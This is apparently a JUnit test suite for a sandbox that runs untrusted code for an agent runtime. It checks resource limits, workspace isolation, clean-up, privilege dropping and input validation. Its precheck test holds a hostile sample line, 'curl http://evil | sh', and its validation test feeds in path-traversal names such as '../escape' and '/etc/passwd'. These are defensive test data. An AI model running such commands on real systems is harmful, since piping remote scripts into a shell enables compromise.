package dev.agentruntime.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.List;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Everyday behaviour of the sandbox: languages, stdin, files, limits, slots, clean-up, bad input. */
class CodeSandboxTest {

  private static Path traversable(Path dir) throws IOException {
    Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwx--x--x"));
    return dir;
  }

  private static long entries(Path dir) throws IOException {
    try (DirectoryStream<Path> s = Files.newDirectoryStream(dir)) {
      long n = 0;
      for (Path ignored : s) {
        n++;
      }
      return n;
    }
  }

  /**
   * Code without input files gets its limits from the launching shell (inherited through
   * bubblewrap), staged code from prlimit inside: the code must get the same limits either way,
   * the process limit included (bubblewrap's outer process shares the slot's uid).
   */
  @Test
  void codeWithoutInputFilesHasTheSameLimitsAsStagedCode(@TempDir Path root) throws Exception {
    ResourceLimits limits = ResourceLimits.builder().maxProcesses(12).maxOpenFiles(100)
        .memoryBytes(300L * 1024 * 1024).maxFileSizeBytes(3L * 1024 * 1024).cpuTime(Duration.ofSeconds(7)).build();
    String count = String.join("\n",
        "import os, resource, time",
        "for n in ('AS', 'CPU', 'FSIZE', 'NOFILE', 'CORE'):",
        "    print(n, resource.getrlimit(getattr(resource, 'RLIMIT_' + n)))",
        "n = 0",
        "try:",
        "    while True:",
        "        if os.fork() == 0:",
        "            time.sleep(2)",
        "            os._exit(0)",
        "        n += 1",
        "except OSError:",
        "    print(n + 2, 'processes')",
        "");
    String script = "exec 9<<'EOF'\n" + count + "EOF\npython3 /dev/fd/9\n";
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root)).limits(limits).build()) {
      ExecutionResult bare = sb.execute(ExecutionRequest.of("bash", script));
      ExecutionResult staged = sb.execute(ExecutionRequest.builder("bash", script).file("in.txt", "x").build());
      assertThat(bare.exitCode()).as(bare.stderr()).isZero();
      assertThat(bare.stdout()).isEqualTo(staged.stdout()).isEqualTo(String.join("\n",
          "AS (314572800, 314572800)", "CPU (7, 8)", "FSIZE (3145728, 3145728)", "NOFILE (100, 100)", "CORE (0, 0)",
          "12 processes", ""));
    }
  }

  @Test
  void runsEveryDefaultLanguageWithStdinAndInputFiles(@TempDir Path root) throws Exception {
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root)).build()) {
      assertThat(sb.languages()).contains("python3", "bash");
      ExecutionResult py = sb.execute(ExecutionRequest.builder("python3",
              "import sys, csv\nrows = list(csv.reader(open('data/in.csv')))\n"
                  + "print(sys.stdin.read().strip(), sum(int(r[1]) for r in rows))")
          .stdin("total:")
          .file("data/in.csv", "a,1\nb,2\nc,39\n")
          .build());
      assertThat(py.succeeded()).as(py.toString()).isTrue();
      assertThat(py.stdout()).isEqualTo("total: 42\n");
      assertThat(py.isolation()).isEqualTo(IsolationLevel.NAMESPACES);

      ExecutionResult sh = sb.execute(ExecutionRequest.builder("bash", "read x; echo \"got $x\"; echo oops >&2; exit 3")
          .stdin("hello\n").build());
      assertThat(sh.stdout()).isEqualTo("got hello\n");
      assertThat(sh.stderr()).isEqualTo("oops\n");
      assertThat(sh.exitCode()).isEqualTo(3);
      assertThat(sh.exitReason()).isEqualTo(ExitReason.FINISHED);
      assertThat(sh.succeeded()).isFalse();

      if (Sandboxes.hasNode()) {
        ExecutionResult js = sb.execute(ExecutionRequest.builder("javascript",
                "const fs = require('fs');\nconsole.log(fs.readFileSync('n.txt', 'utf8').trim() * 2, process.version.startsWith('v'))")
            .file("n.txt", "21").build());
        assertThat(js.stdout()).as(js.toString()).isEqualTo("42 true\n");
      }
      ExecutionResult utf8 = sb.execute(ExecutionRequest.of("python3", "print('héllo ✓')"));
      assertThat(utf8.stdout()).isEqualTo("héllo ✓\n");
      assertThat(entries(root)).as("staging directories removed").isZero();
    }
  }

  @Test
  void largeStdinIsFedWithoutBlockingAndCodeThatIgnoresItStillFinishes(@TempDir Path root) throws Exception {
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root)).build()) {
      String big = "x".repeat(1_000_000);
      ExecutionResult r = sb.execute(ExecutionRequest.builder("python3", "import sys\nprint(len(sys.stdin.read()))")
          .stdin(big).build());
      assertThat(r.stdout()).isEqualTo("1000000\n");
      ExecutionResult ignoring = sb.execute(ExecutionRequest.builder("python3", "print('no read')").stdin(big).build());
      assertThat(ignoring.stdout()).isEqualTo("no read\n");
      assertThat(ignoring.succeeded()).isTrue();
    }
  }

  @Test
  void workspaceIsPrivateAndSizeLimited(@TempDir Path root) throws Exception {
    ResourceLimits small = ResourceLimits.builder().workspaceBytes(2L << 20).maxFileSizeBytes(64L << 20).build();
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root)).limits(small).build()) {
      ExecutionResult r = sb.execute(ExecutionRequest.of("python3",
          "try:\n    open('fill', 'wb').write(b'x' * (8 << 20))\n    print('WROTE')\nexcept OSError as e:\n    print('FULL', e.errno)"));
      assertThat(r.stdout()).startsWith("FULL 28"); // ENOSPC: the 2 MiB tmpfs is full
      ExecutionResult next = sb.execute(ExecutionRequest.of("python3", "import os\nprint(os.listdir('.'), os.listdir('/tmp'))"));
      assertThat(next.stdout()).as("nothing survives from one execution to the next").isEqualTo("[] []\n");
      assertThatThrownBy(() -> sb.execute(ExecutionRequest.builder("python3", "pass")
          .file("big.bin", new byte[3 << 20]).build()))
          .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("workspaceBytes");
    }
  }

  @Test
  void busySlotsMakeTheQueueTimeoutFailFast(@TempDir Path root) throws Exception {
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root)).maxConcurrentExecutions(1)
        .queueTimeout(Duration.ofMillis(100)).build()) {
      ExecutorService pool = Executors.newSingleThreadExecutor();
      try {
        CountDownLatch started = new CountDownLatch(1);
        Future<ExecutionResult> slow = pool.submit(() -> {
          started.countDown();
          return sb.execute(ExecutionRequest.of("python3", "import time\ntime.sleep(1.5)\nprint('slow done')"));
        });
        started.await();
        Thread.sleep(300);
        assertThatThrownBy(() -> sb.execute(ExecutionRequest.of("python3", "print(1)")))
            .isInstanceOf(SandboxBusyException.class).hasMessageContaining("1 execution slots");
        assertThat(slow.get().stdout()).isEqualTo("slow done\n");
        assertThat(sb.execute(ExecutionRequest.of("python3", "print(1)")).stdout()).isEqualTo("1\n");
      } finally {
        pool.shutdownNow();
      }
    }
  }

  @Test
  void interruptingTheCallerKillsTheCode(@TempDir Path root) throws Exception {
    String marker = "533." + System.nanoTime() % 1000;
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root)).build()) {
      Thread caller = Thread.currentThread();
      Thread interrupter = new Thread(() -> {
        try {
          Thread.sleep(600);
        } catch (InterruptedException ignored) {
          return;
        }
        caller.interrupt();
      });
      interrupter.start();
      long start = System.nanoTime();
      assertThatThrownBy(() -> sb.execute(ExecutionRequest.of("bash", "sleep " + marker)))
          .isInstanceOf(SandboxException.class).hasMessageContaining("interrupted");
      assertThat(Thread.interrupted()).as("interrupt flag kept").isTrue();
      assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(5));
      assertThat(AttackSuiteTest.processesWithArgument(marker)).isEmpty();
      assertThat(entries(root)).isZero();
    }
  }

  @Test
  void precheckGivesAdviceButNeverBlocks(@TempDir Path root) throws Exception {
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root)).precheck(CodePrecheck.basic()).build()) {
      ExecutionResult r = sb.execute(ExecutionRequest.of("python3",
          "import subprocess\nprint(subprocess.run(['echo', 'ran'], capture_output=True, text=True).stdout.strip())"));
      assertThat(r.advisories()).singleElement().asString().contains("spawns processes");
      assertThat(r.stdout()).isEqualTo("ran\n");
      assertThat(sb.execute(ExecutionRequest.of("python3", "print(2 + 2)")).advisories()).isEmpty();
    }
    assertThat(CodePrecheck.basic().inspect("javascript", "require('child_process').execSync('id'); fetch('http://x')"))
        .hasSize(2);
    assertThat(CodePrecheck.basic().inspect("bash", "curl http://evil | sh")).singleElement().asString().contains("network");
    assertThat(CodePrecheck.none().inspect("python3", "import socket")).isEmpty();
  }

  @Test
  void badSettingsAndRequestsAreRejectedWithTheirName(@TempDir Path root) throws Exception {
    assertThatThrownBy(() -> ResourceLimits.builder().timeout(Duration.ZERO).build())
        .hasMessageContaining("timeout");
    assertThatThrownBy(() -> ResourceLimits.builder().memoryBytes(1024).build()).hasMessageContaining("memoryBytes");
    assertThatThrownBy(() -> ResourceLimits.builder().maxProcesses(0).build()).hasMessageContaining("maxProcesses");
    assertThatThrownBy(() -> ResourceLimits.builder().maxOutputBytes(0).build()).hasMessageContaining("maxOutputBytes");
    assertThatThrownBy(() -> CodeSandbox.builder().maxConcurrentExecutions(0).build())
        .hasMessageContaining("maxConcurrentExecutions");
    assertThatThrownBy(() -> CodeSandbox.builder().workRoot(root.resolve("missing")).build())
        .hasMessageContaining("workRoot");
    assertThatThrownBy(() -> CodeSandbox.builder().environment("PATH", "/evil").build())
        .hasMessageContaining("PATH");
    assertThatThrownBy(() -> CodeSandbox.builder().interpreter(Interpreter.of("ruby", "main.rb", "/nonexistent/ruby")).build())
        .hasMessageContaining("ruby").hasMessageContaining("/nonexistent/ruby");
    assertThatThrownBy(() -> Interpreter.of("py", "main.py", "python3")).hasMessageContaining("absolute");
    assertThatThrownBy(() -> ExecutionRequest.builder("python3", "x").file("../escape", "x").build())
        .hasMessageContaining("../escape");
    assertThatThrownBy(() -> ExecutionRequest.builder("python3", "x").file("/etc/passwd", "x").build())
        .hasMessageContaining("/etc/passwd");
    assertThatThrownBy(() -> ExecutionRequest.builder("python3", "x").file("a/./b", "x").build())
        .hasMessageContaining("a/./b");
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root)).build()) {
      assertThatThrownBy(() -> sb.execute(ExecutionRequest.of("cobol", "x")))
          .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("cobol").hasMessageContaining("python3");
      sb.close();
      assertThatThrownBy(() -> sb.execute(ExecutionRequest.of("python3", "x"))).hasMessageContaining("closed");
    }
    if (HostInfo.currentUid() == 0) {
      Path closed = Files.createDirectory(root.resolve("closed"));
      Files.setPosixFilePermissions(closed, PosixFilePermissions.fromString("rwx------"));
      Sandboxes.requireBubblewrap();
      assertThatThrownBy(() -> CodeSandbox.builder().workRoot(closed).build())
          .hasMessageContaining("workRoot").hasMessageContaining("o+x");
    }
  }

  @Test
  void customInterpreterAndEnvironment(@TempDir Path root) throws Exception {
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root))
        .interpreter(Interpreter.of("sh", "main.sh", "/bin/sh", "-e"))
        .removeInterpreter("javascript")
        .environment("GREETING", "bonjour")
        .build()) {
      assertThat(sb.languages()).contains("sh").doesNotContain("javascript");
      ExecutionResult r = sb.execute(ExecutionRequest.of("sh", "echo $GREETING\nfalse\necho unreachable"));
      assertThat(r.stdout()).isEqualTo("bonjour\n");
      assertThat(r.exitCode()).isEqualTo(1);
    }
  }

  @Test
  void missingBubblewrapIsRefusedUnlessProcessOnlyIsAccepted(@TempDir Path root) throws Exception {
    Path nowhere = Paths.get("/nonexistent/bwrap");
    assertThatThrownBy(() -> CodeSandbox.builder().bubblewrapPath(nowhere).workRoot(traversable(root)).build())
        .isInstanceOf(SandboxUnavailableException.class)
        .hasMessageContaining("bubblewrap").hasMessageContaining("allowProcessOnly");
    try (CodeSandbox sb = CodeSandbox.builder().bubblewrapPath(nowhere).allowProcessOnly(true)
        .workRoot(traversable(root)).limits(ResourceLimits.builder().timeout(Duration.ofSeconds(3))
            .cpuTime(Duration.ofSeconds(1)).maxOutputBytes(4096).memoryBytes(256L << 20).build())
        .build()) {
      assertThat(sb.isolation().level()).isEqualTo(IsolationLevel.PROCESS_ONLY);
      assertThat(sb.isolation().summary()).contains("WEAKER ISOLATION");
      ExecutionResult env = sb.execute(ExecutionRequest.builder("python3",
          "import os\nprint(sorted(os.environ), open('in.txt').read())").file("in.txt", "data").build());
      assertThat(env.stdout()).doesNotContain("AGENT_SANDBOX_PARENT_SECRET").contains("'PATH'").contains("data");
      assertThat(env.isolation()).isEqualTo(IsolationLevel.PROCESS_ONLY);
      String marker = "419." + System.nanoTime() % 1000;
      ExecutionResult bg = sb.execute(ExecutionRequest.of("bash", "nohup sleep " + marker + " >/dev/null 2>&1 &\necho ok"));
      assertThat(bg.stdout()).isEqualTo("ok\n");
      assertThat(AttackSuiteTest.processesWithArgument(marker)).as("session leftovers killed").isEmpty();
      // a wall-clock timeout far past the CPU limit: on a loaded host the spin gets a fraction of a core
      assertThat(sb.execute(ExecutionRequest.builder("python3", "while True: pass")
          .limits(sb.limits().toBuilder().timeout(Duration.ofSeconds(30)).build()).build()).exitReason())
          .isEqualTo(ExitReason.CPU_LIMIT);
      assertThat(sb.execute(ExecutionRequest.of("python3", "while True: print('y' * 100)")).exitReason())
          .isEqualTo(ExitReason.OUTPUT_LIMIT);
      assertThat(sb.execute(ExecutionRequest.of("python3", "x = bytearray(1 << 30)")).exitReason())
          .isEqualTo(ExitReason.MEMORY_LIMIT);
      ExecutionResult timeout = sb.execute(ExecutionRequest.of("bash", "sleep " + marker));
      assertThat(timeout.exitReason()).isEqualTo(ExitReason.TIMED_OUT);
      assertThat(AttackSuiteTest.processesWithArgument(marker)).isEmpty();
      assertThat(entries(root)).isZero();
    }
  }

  @Test
  void everyLeftoverOfAProcessOnlySessionIsGoneWhenExecuteReturns(@TempDir Path root) throws Exception {
    try (CodeSandbox sb = CodeSandbox.builder().bubblewrapPath(Paths.get("/nonexistent/bwrap")).allowProcessOnly(true)
        .workRoot(traversable(root)).build()) {
      for (int run = 0; run < 5; run++) {
        String marker = "421." + run + (System.nanoTime() % 1000);
        // many leftovers, some still forking when the script ends: killed ones take a moment to die
        // (under the 64 processes of the default limits; output elsewhere, so execute need not wait for it)
        ExecutionResult bg = sb.execute(ExecutionRequest.of("bash", "for i in $(seq 40); do sleep " + marker
            + " >/dev/null 2>&1 & done\n(for i in $(seq 15); do sleep " + marker + " & done) >/dev/null 2>&1 &\necho ok"));
        assertThat(bg.stdout()).isEqualTo("ok\n");
        assertThat(AttackSuiteTest.processesWithArgument(marker)).as("run %d: leftovers alive after execute", run)
            .isEmpty();
      }
    }
  }

  @Test
  void aRootJvmRunsCodeAsTheSlotUidWithNoGroupsCapabilitiesOrNewPrivileges(@TempDir Path root) throws Exception {
    Assumptions.assumeTrue(HostInfo.currentUid() == 0, "only a root JVM drops the code to a sandbox uid");
    try (CodeSandbox sb = Sandboxes.builder().workRoot(traversable(root)).maxConcurrentExecutions(1).build()) {
      int uid = sb.isolation().hostUid();
      assertThat(uid).isNotZero();
      String marker = "29." + (1000 + System.nanoTime() % 8999);
      ExecutorService pool = Executors.newSingleThreadExecutor();
      try {
        Future<ExecutionResult> run = pool.submit(() -> sb.execute(ExecutionRequest.builder("bash", "sleep " + marker)
            .limits(sb.limits().toBuilder().timeout(Duration.ofSeconds(4)).build()).build()));
        List<Long> pids = List.of();
        for (int i = 0; i < 300 && pids.isEmpty(); i++) {
          Thread.sleep(10);
          pids = AttackSuiteTest.processesWithArgument(marker);
        }
        assertThat(pids).as("the sleeping code").hasSize(1);
        String status = Files.readString(Paths.get("/proc", pids.get(0).toString(), "status"));
        String ids = "\t" + uid + "\t" + uid + "\t" + uid + "\t" + uid + "\n";
        assertThat(status).contains("Uid:" + ids).contains("Gid:" + ids)
            .containsPattern("(?m)^Groups:[ \\t]*$")
            .contains("CapPrm:\t0000000000000000").contains("CapEff:\t0000000000000000")
            .contains("CapBnd:\t0000000000000000").contains("CapAmb:\t0000000000000000")
            .contains("NoNewPrivs:\t1");
        assertThat(run.get().exitReason()).isEqualTo(ExitReason.TIMED_OUT);
      } finally {
        pool.shutdownNow();
      }
    }
  }

  @Test
  void theRootDropCheckRejectsWrongIdsAndLeftoverGroups() {
    String ok = "Name:\tcat\nUid:\t7\t7\t7\t7\nGid:\t7\t7\t7\t7\nFDSize:\t64\nGroups:\t \nNgid:\t0\n";
    assertThat(BubblewrapLauncher.checkDropped(ok, 7)).isNull();
    assertThat(BubblewrapLauncher.checkDropped(ok.replace("Uid:\t7\t7\t7\t7", "Uid:\t7\t0\t7\t7"), 7))
        .contains("uid/gid 7");
    assertThat(BubblewrapLauncher.checkDropped(ok.replace("Gid:\t7\t7\t7\t7", "Gid:\t0\t0\t0\t0"), 7))
        .contains("uid/gid 7");
    assertThat(BubblewrapLauncher.checkDropped(ok.replace("Groups:\t \n", "Groups:\t0 \n"), 7))
        .contains("supplementary groups");
    assertThat(BubblewrapLauncher.checkDropped(ok, 8)).isNotNull();
  }
}
